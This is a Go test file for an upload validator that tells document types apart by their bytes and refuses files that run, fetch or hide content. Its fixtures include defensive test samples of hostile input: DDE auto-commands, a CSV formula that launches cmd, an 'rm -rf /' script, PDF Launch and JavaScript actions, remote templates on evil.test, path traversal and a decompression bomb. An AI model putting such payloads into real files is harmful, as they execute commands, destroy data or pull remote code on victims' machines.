package files

import (
	"archive/zip"
	"bytes"
	"compress/zlib"
	"fmt"
	"strings"
	"testing"

	"sharewell/internal/errs"
)

// archive packs parts: name, content, name, content.
func archive(t testing.TB, parts ...string) []byte {
	t.Helper()
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for i := 0; i < len(parts); i += 2 {
		w, err := z.Create(parts[i])
		if err == nil {
			_, err = w.Write([]byte(parts[i+1]))
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func office(t testing.TB, main string, more ...string) []byte {
	t.Helper()
	return archive(t, append([]string{"[Content_Types].xml", "<Types/>", main, "<x/>"}, more...)...)
}

func open(t testing.TB, content string, more ...string) []byte {
	t.Helper()
	return archive(t, append([]string{"mimetype", ODT, "content.xml", content, "META-INF/manifest.xml", "<manifest/>"}, more...)...)
}

func aPDF(objects string) []byte { return []byte("%PDF-1.7\n" + objects + "\ntrailer\n%%EOF\n") }

// packedObjects is a PDF whose objects stand in a packed list.
func packedObjects(t testing.TB, objects, filter string) []byte {
	t.Helper()
	var b bytes.Buffer
	z := zlib.NewWriter(&b)
	if _, err := z.Write([]byte(objects)); err != nil {
		t.Fatal(err)
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return aPDF(fmt.Sprintf("1 0 obj <</Type /ObjStm /Filter %s /Length %d>>\nstream\n%s\nendstream\nendobj", filter, b.Len(), b.String()))
}

const word, sheet, slides = "word/document.xml", "xl/workbook.xml", "ppt/presentation.xml"

var wholePNG = []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\x00IHDRcrc!\x00\x00\x00\x00IENDcrc!")

func TestPapersAreToldByTheirBytes(t *testing.T) {
	t.Parallel()
	workbook := string(office(t, sheet))
	for name, c := range map[string]struct {
		as, want, kept string
		content        []byte
	}{
		"word":                  {"notice.docx", DOCX, "notice.docx", office(t, word)},
		"workbook":              {"a.XLSX", XLSX, "a.xlsx", office(t, sheet)},
		"slides":                {"a.pptx", PPTX, "a.pptx", office(t, slides)},
		"workbook named word":   {"a.docx", XLSX, "a.xlsx", office(t, sheet)},
		"chart in slides":       {"a.pptx", PPTX, "a.pptx", office(t, slides, "ppt/embeddings/Microsoft_Excel_Sheet1.xlsx", workbook)},
		"open text":             {"a.odt", ODT, "a.odt", open(t, `<office:document-content><office:scripts/></office:document-content>`)},
		"open text, a picture":  {"a.odt", ODT, "a.odt", open(t, `<a/>`, "Pictures/description.png", "x")},
		"pdf":                   {"a.pdf", PDF, "a.pdf", aPDF("1 0 obj <</Type /Catalog /OpenAction [3 0 R /Fit]>> endobj")},
		"pdf, packed":           {"a.pdf", PDF, "a.pdf", packedObjects(t, "1 0 <</Type /Page>>", "/FlateDecode")},
		"png":                   {"a.png", PNG, "a.png", wholePNG},
		"jpeg":                  {"a.jpg", JPEG, "a.jpg", []byte{0xff, 0xd8, 0xff, 0xe0}},
		"table":                 {"a.txt", CSV, "a.csv", []byte("Name,Town\nAnn,Ashford\n")},
		"table of Windows":      {"a.csv", CSV, "a.csv", []byte("Name;Town\r\nZo\xe9;Deal\r\n")},
		"telephone, below zero": {"a.csv", CSV, "a.csv", []byte("Tel,Change\n+44 1622,-5\n")},
		"text":                  {"notes.md", TXT, "notes.txt", []byte("How we wrote our notice, and why.\n")},
	} {
		m, err := CheckPaper(c.as, c.content, 20<<20)
		if err != nil || m.Type != c.want || m.Name != c.kept {
			t.Errorf("%s: %+v, %v", name, m, err)
		}
	}
}

func TestPapersThatRunFetchOrHideAreRefused(t *testing.T) {
	t.Parallel()
	rel := func(kind, target string) string {
		return `<Relationships><Relationship Type="http://x/` + kind + `" Target="` + target + `" TargetMode="External"/></Relationships>`
	}
	nested := string(office(t, sheet, "xl/embeddings/one.xlsx", string(office(t, sheet))))
	for name, c := range map[string]struct {
		code    string
		content []byte
	}{
		"macros":                  {"files.macros", office(t, word, "word/vbaProject.bin", "x")},
		"macros by type":          {"files.macros", archive(t, "[Content_Types].xml", `<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>`, word, "<x/>")},
		"macro sheet":             {"files.macros", office(t, sheet, "xl/macrosheets/sheet1.xml", "<x/>")},
		"program on a slide":      {"files.macros", office(t, slides, "ppt/slides/slide1.xml", `<a:hlinkClick action="ppaction://program?file.exe"/>`)},
		"object":                  {"files.embedded", office(t, word, "word/embeddings/oleObject1.bin", "x")},
		"control":                 {"files.embedded", office(t, sheet, "xl/activeX/activeX1.xml", "x")},
		"macros within":           {"files.macros", office(t, slides, "ppt/embeddings/a.xlsm", string(office(t, sheet, "xl/vbaProject.bin", "x")))},
		"too deep":                {"files.embedded", office(t, word, "word/embeddings/a.xlsx", nested)},
		"template":                {"files.fetches", office(t, word, "word/_rels/settings.xml.rels", rel("attachedTemplate", "https://evil.test/x.dotm"))},
		"other workbook":          {"files.fetches", office(t, sheet, "xl/externalLinks/externalLink1.xml", "<ddeLink/>")},
		"query":                   {"files.fetches", office(t, sheet, "xl/connections.xml", "<x/>")},
		"exchange":                {"files.fetches", office(t, "word/document.xml", "word/header1.xml", `<w:p><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\cmd</w:instrText></w:r></w:p>`)},
		"exchange, short":         {"files.fetches", office(t, word, "word/footnotes.xml", `<w:p><w:fldSimple w:instr=" DDEAUTO cmd "/></w:p>`)},
		"open macros":             {"files.macros", open(t, "<a/>", "Basic/Standard/Module1.xml", "x")},
		"open script":             {"files.macros", open(t, "<a/>", "Scripts/python/x.py", "x")},
		"open listener":           {"files.macros", open(t, `<office:scripts><script:event-listener/></office:scripts>`)},
		"open link to a macro":    {"files.macros", open(t, `<text:a xlink:href="vnd.sun.star.script:Standard.M?language=Basic"/>`)},
		"open picture elsewhere":  {"files.fetches", open(t, `<draw:image xlink:href="https://evil.test/x.png"/>`)},
		"open object":             {"files.embedded", open(t, `<draw:object-ole xlink:href="./Object 1"/>`)},
		"open, locked":            {"files.locked", archive(t, "mimetype", ODT, "content.xml", "x", "META-INF/manifest.xml", "<manifest:encryption-data/>")},
		"archive":                 {"files.archive", archive(t, "a.txt", "x", "b.exe", "MZ")},
		"climbing":                {"files.damaged", office(t, word, "../x", "x")},
		"one part twice":          {"files.damaged", office(t, word, word, "x")},
		"old Word":                {"files.old", []byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1")},
		"rich text":               {"files.rtf", []byte(`{\rtf1{\object\objocx}}`)},
		"pdf, script":             {"files.pdf_runs", aPDF("1 0 obj <</S /JavaScript /JS (app.alert)>> endobj")},
		"pdf, script, written":    {"files.pdf_runs", aPDF("1 0 obj <</S /J#61vaScript /J#53 (x)>> endobj")},
		"pdf, launch":             {"files.pdf_runs", aPDF("1 0 obj <</S /Launch /F (cmd.exe)>> endobj")},
		"pdf, file":               {"files.pdf_runs", aPDF("1 0 obj <</Names <</EmbeddedFiles 2 0 R>>>> endobj")},
		"pdf, packed script":      {"files.pdf_runs", packedObjects(t, "1 0 <</S /JavaScript /JS 2 0 R>>", "/FlateDecode")},
		"pdf, packed otherwise":   {"files.pdf_unread", packedObjects(t, "1 0 <</A 1>>", "[/ASCII85Decode /FlateDecode]")},
		"pdf, locked":             {"files.locked", aPDF("trailer <</Encrypt 5 0 R>>")},
		"pdf, cut short":          {"files.damaged", []byte("%PDF-1.7\n")},
		"pdf and archive":         {"files.two", append(aPDF("1 0 obj <<>> endobj"), append(archive(t, "a", "b"), []byte("\n%%EOF")...)...)},
		"picture and archive":     {"files.two", append([]byte{0xff, 0xd8, 0xff, 0xe0}, archive(t, "a", "b")...)},
		"picture and page":        {"files.damaged", append(bytes.Clone(wholePNG), []byte("<script>")...)},
		"page":                    {"files.page", []byte("<html><script>alert(1)</script>")},
		"drawing":                 {"files.page", []byte(`<?xml version="1.0"?><svg onload="x"/>`)},
		"page with a mark before": {"files.page", []byte("\xef\xbb\xbf<!DOCTYPE html><p>x")},
		"script of a shell":       {"files.page", []byte("#!/bin/sh\nrm -rf /\n")},
		"program":                 {"files.type", []byte("MZ\x90\x00")},
		"formula":                 {"files.formula", []byte("Name,Sum\nAnn,\"=cmd|' /C calc'!A0\"\n")},
		"nothing":                 {"files.empty", nil},
		"packed to a thousandth":  {"files.bomb", office(t, word, "word/media/a.bmp", strings.Repeat("\x00", 9<<20))},
		"large":                   {"files.large", bytes.Repeat([]byte("word "), 1<<19)},
	} {
		_, err := CheckPaper("a.docx", c.content, 2<<20)
		if errs.CodeOf(err) != c.code || errs.KindOf(err) != errs.Invalid {
			t.Errorf("%s: %v (%s), want %s", name, err, errs.CodeOf(err), c.code)
		}
	}
}

// TestManyPartsAreBounded: what is claimed by many documents within one counts together.
func TestManyPartsAreBounded(t *testing.T) {
	t.Parallel()
	parts := []string{}
	for i := range mostNested + 1 {
		parts = append(parts, fmt.Sprintf("word/embeddings/%d.xlsx", i), string(office(t, sheet)))
	}
	if _, err := CheckPaper("a.docx", office(t, word, parts...), 20<<20); errs.CodeOf(err) != "files.embedded" {
		t.Errorf("many within one: %v", err)
	}
}

func FuzzCheckPaper(f *testing.F) {
	f.Add("a.docx", office(f, word))
	f.Add("a.odt", open(f, "<a/>"))
	f.Add("a.pdf", packedObjects(f, "1 0 <</Type /Page>>", "/FlateDecode"))
	f.Add("a.csv", []byte("a,b\n1,2\n"))
	f.Add("a.png", wholePNG)
	f.Fuzz(func(t *testing.T, name string, content []byte) {
		m, err := CheckPaper(name, content, 1<<16)
		if err == nil && (m.Size != int64(len(content)) || m.Name == "") {
			t.Errorf("%+v", m)
		}
		if err != nil && errs.KindOf(err) != errs.Invalid {
			t.Errorf("%v", err)
		}
	})
}
